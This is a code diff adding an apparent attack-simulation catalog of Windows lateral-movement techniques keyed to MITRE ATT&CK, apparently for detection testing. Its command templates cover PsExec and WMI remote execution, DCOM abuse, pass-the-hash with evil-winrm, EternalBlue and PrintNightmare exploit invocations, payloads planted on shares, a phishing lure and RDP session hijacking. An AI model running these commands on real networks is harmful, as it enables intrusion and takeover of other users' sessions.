@@ -1,0 +1,350 @@
+import { remoteLogon, t, v } from "../dsl";
+
+const netLogon = (session: string, auth: "Kerberos" | "NTLM" = "Kerberos") => remoteLogon(session, auth);
+
+/** Lateral movement: remote execution and remote sessions between the estate's hosts. */
+export const lateralMovement = [
+  t("T1021", "Remote services", "A remote service used with valid credentials.", [
+    v(
+      "psremoting",
+      [
+        {
+          ps: "Enter-PSSession -ComputerName {{srv}} -Credential {{domain}}\\{{admin}}",
+          net: [["@server", 5985]],
+          then: netLogon("wr"),
+        },
+        {
+          cmd: "C:\\Windows\\System32\\wsmprovhost.exe -Embedding",
+          host: "@server",
+          parent: "@svchost:DcomLaunch",
+          user: "@admin",
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t(
+    "T1021.001",
+    "Remote desktop protocol",
+    "mstsc to a server (type 10 logon), RDP enabled via registry, and tunnelled RDP.",
+    [
+      v(
+        "mstsc",
+        [
+          {
+            cmd: "mstsc.exe /v:{{srv}}",
+            net: [["@server", 3389]],
+            then: [
+              {
+                id: "e",
+                kind: "credentials.explicit",
+                targetUser: "@admin",
+                targetServer: "@server",
+                targetInfo: "TERMSRV/{{srv}}",
+              },
+              {
+                id: "l",
+                kind: "logon",
+                host: "@server",
+                session: "rdp",
+                user: "@admin",
+                logonType: 10,
+                source: "@workstation",
+                authPackage: "Negotiate",
+              },
+            ],
+          },
+        ],
+        { shell: "none" },
+      ),
+      v(
+        "enable-rdp",
+        [
+          {
+            cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
+            reg: [
+              [
+                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server",
+                "fDenyTSConnections",
+                "0",
+                "REG_DWORD",
+              ],
+            ],
+          },
+          'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
+        ],
+        { elevated: true },
+      ),
+      v("cmdkey-mstsc", [
+        { cmd: "cmdkey /generic:TERMSRV/{{srv}} /user:{{domain}}\\{{admin}} /pass:P@ss{{n}}" },
+        {
+          cmd: "mstsc /v:{{srv}}",
+          net: [["@server", 3389]],
+          then: [
+            {
+              id: "l",
+              kind: "logon",
+              host: "@server",
+              session: "rdp2",
+              user: "@admin",
+              logonType: 10,
+              source: "@workstation",
+              authPackage: "Negotiate",
+            },
+          ],
+        },
+      ]),
+    ],
+  ),
+  t(
+    "T1021.002",
+    "SMB/Windows admin shares",
+    "Admin shares used to stage and run payloads: Sysinternals PsExec (PSEXESVC), Impacket smbexec (see extras) and net use + copy + WMI.",
+    [
+      v("psexec", [
+        {
+          cmd: "{{tools}}\\PsExec64.exe -accepteula \\\\{{srv}} -u {{domain}}\\{{admin}} -p ******** -s cmd.exe /c whoami",
+          net: [["@server", 445]],
+          then: [
+            ...netLogon("psx", "NTLM"),
+            {
+              id: "sh",
+              kind: "share.access",
+              host: "@server",
+              session: "psx",
+              share: "ADMIN$",
+              relativeTarget: "PSEXESVC.exe",
+              accessMask: "0x2",
+            },
+            {
+              id: "svc",
+              kind: "service.install",
+              host: "@server",
+              proc: "@services",
+              session: "psx",
+              name: "PSEXESVC",
+              imagePath: "%SystemRoot%\\PSEXESVC.exe",
+            },
+          ],
+        },
+        {
+          cmd: "C:\\Windows\\PSEXESVC.exe",
+          as: "pss",
+          host: "@server",
+          parent: "@services",
+          user: "@system",
+          pipes: ["\\PSEXESVC", "\\PSEXESVC-{{me}}-{{n}}-stdin", "\\PSEXESVC-{{me}}-{{n}}-stdout"],
+        },
+        { cmd: "cmd.exe /c whoami", host: "@server", parent: "pss" },
+      ]),
+      v(
+        "net-use-copy-wmic",
+        [
+          {
+            cmd: "net use \\\\{{srv}}\\C$ /user:{{domain}}\\{{admin}} ********",
+            net: [["@server", 445]],
+            then: [
+              {
+                id: "e",
+                kind: "credentials.explicit",
+                targetUser: "@admin",
+                targetServer: "@server",
+                targetInfo: "{{srv}}",
+              },
+              ...netLogon("nu"),
+            ],
+          },
+          {
+            cmd: "cmd.exe /c copy {{tools}}\\{{name}}.exe \\\\{{srv}}\\C$\\Windows\\Temp\\{{name}}.exe",
+            then: [
+              {
+                id: "s",
+                kind: "share.access",
+                host: "@server",
+                session: "nu",
+                share: "C$",
+                relativeTarget: "Windows\\Temp\\{{name}}.exe",
+                accessMask: "0x2",
+              },
+            ],
+          },
+          {
+            cmd: 'wmic /node:{{srv}} process call create "C:\\Windows\\Temp\\{{name}}.exe"',
+            net: [["@server", 135]],
+          },
+          { cmd: "C:\\Windows\\Temp\\{{name}}.exe", host: "@server", parent: "@wmiprvse", user: "@admin" },
+        ],
+        { user: "@admin" },
+      ),
+    ],
+  ),
+  t("T1021.003", "DCOM", "MMC20.Application/ShellBrowserWindow instantiated on a remote host.", [
+    v(
+      "mmc20-remote",
+      [
+        {
+          ps: '$c = [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","{{srv}}")); $c.Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c {{tools}}\\{{rand}}.exe","7")',
+          net: [["@server", 135]],
+          then: netLogon("dcom"),
+        },
+        {
+          cmd: "C:\\Windows\\system32\\mmc.exe -Embedding",
+          as: "mmc",
+          host: "@server",
+          parent: "@svchost:DcomLaunch",
+          user: "@admin",
+        },
+        {
+          cmd: '"C:\\Windows\\System32\\cmd.exe" /c {{tools}}\\{{rand}}.exe',
+          host: "@server",
+          parent: "mmc",
+        },
+      ],
+      { shell: "ps" },
+    ),
+    v(
+      "excel-dcom",
+      [
+        {
+          ps: '$e = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application","{{srv}}")); $e.DisplayAlerts = $false; $e.DDEInitiate("cmd", "/c {{tools}}\\{{rand}}.exe")',
+          net: [["@server", 135]],
+          then: netLogon("dcomxl"),
+        },
+        {
+          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /automation -Embedding',
+          as: "xl",
+          host: "@server",
+          parent: "@svchost:DcomLaunch",
+          user: "@admin",
+        },
+        { cmd: "cmd.exe /c {{tools}}\\{{rand}}.exe", host: "@server", parent: "xl" },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1021.005", "VNC", "A VNC viewer connecting to a server.", [
+    v(
+      "vncviewer",
+      [
+        {
+          cmd: '"C:\\Program Files\\RealVNC\\VNC Viewer\\vncviewer.exe" {{srv}}:5900',
+          net: [["@server", 5900]],
+        },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t(
+    "T1021.006",
+    "Windows remote management",
+    "Invoke-Command/Enter-PSSession and winrs: wsmprovhost/winrshost on the target.",
+    [
+      v(
+        "invoke-command",
+        [
+          {
+            ps: "Invoke-Command -ComputerName {{srv}} -ScriptBlock { whoami; hostname }",
+            net: [["@server", 5985]],
+            then: netLogon("wsm"),
+          },
+          {
+            cmd: "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
+            host: "@server",
+            parent: "@svchost:DcomLaunch",
+            user: "@admin",
+            as: "wp",
+          },
+          { cmd: "C:\\Windows\\system32\\whoami.exe", host: "@server", parent: "wp" },
+        ],
+        { shell: "ps", user: "@admin" },
+      ),
+      v("winrs", [
+        {
+          cmd: "winrs -r:{{srv}} -u:{{domain}}\\{{admin}} -p:******** cmd /c whoami",
+          net: [["@server", 5985]],
+          then: netLogon("winrs"),
+        },
+        {
+          cmd: "C:\\Windows\\system32\\winrshost.exe -Embedding",
+          host: "@server",
+          parent: "@svchost:DcomLaunch",
+          user: "@admin",
+          as: "wr",
+        },
+        { cmd: "cmd /c whoami", image: "C:\\Windows\\System32\\cmd.exe", host: "@server", parent: "wr" },
+      ]),
+      v("evil-winrm", [
+        {
+          cmd: "{{tools}}\\evil-winrm.exe -i {{srvip}} -u {{admin}} -H {{rand2}}{{rand2}}{{rand2}}{{rand2}}",
+          net: [["@server", 5985]],
+          then: netLogon("ewr", "NTLM"),
+        },
+        {
+          cmd: "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
+          host: "@server",
+          parent: "@svchost:DcomLaunch",
+          user: "@admin",
+        },
+      ]),
+    ],
+  ),
+  t("T1080", "Taint shared content", "A payload or LNK placed on a file share users open.", [
+    v("lnk-on-share", [
+      {
+        cmd: "cmd.exe /c copy {{tmp}}\\{{name}}.lnk \\\\{{srv}}\\Public\\Documents\\{{name}}.lnk",
+        net: [["@server", 445]],
+      },
+    ]),
+    v("exe-on-share", [
+      {
+        cmd: "cmd.exe /c copy {{tmp}}\\setup.exe \\\\{{srv}}\\Software\\Installers\\setup.exe",
+        net: [["@server", 445]],
+      },
+    ]),
+  ]),
+  t("T1210", "Remote services exploit", "A public exploit (EternalBlue, PrintNightmare) against a server.", [
+    v("eternalblue", [
+      { cmd: "{{tools}}\\eternalblue.exe --TargetIp {{srvip}} --TargetPort 445", net: [["@server", 445]] },
+    ]),
+    v("printnightmare", [
+      {
+        cmd: "{{tools}}\\CVE-2021-1675.exe \\\\{{srv}} \\\\{{meip}}\\share\\{{rand}}.dll",
+        net: [["@server", 445]],
+        pipeConnects: ["\\spoolss"],
+      },
+    ]),
+  ]),
+  t("T1534", "Internal spearphishing", "A lure sent from a compromised internal mailbox.", [
+    v(
+      "outlook-send",
+      [
+        {
+          ps: "$o = New-Object -ComObject Outlook.Application; $m = $o.CreateItem(0); $m.To = 'finance@{{dns}}'; $m.Subject = 'Updated invoice'; $m.Attachments.Add(\"$env:TEMP\\Invoice.zip\"); $m.Send()",
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1563", "Remote service session hijacking", "An existing RDP session taken over.", [
+    v("tscon", ["tscon 2 /dest:console"], { elevated: true }),
+  ]),
+  t(
+    "T1563.002",
+    "RDP hijacking",
+    "tscon run as SYSTEM (via a service or PsExec) to take over another user's session.",
+    [
+      v(
+        "tscon-service",
+        [
+          { cmd: 'sc create sesshijack binpath= "cmd.exe /k tscon 2 /dest:rdp-tcp#0"' },
+          "net start sesshijack",
+          { cmd: "tscon 2 /dest:rdp-tcp#0", parent: "@services", user: "@system" },
+        ],
+        { elevated: true },
+      ),
+      v("psexec-tscon", [{ cmd: "{{tools}}\\PsExec.exe -s -accepteula cmd /c tscon 3 /dest:console" }], {
+        elevated: true,
+      }),
+    ],
+  ),
+];
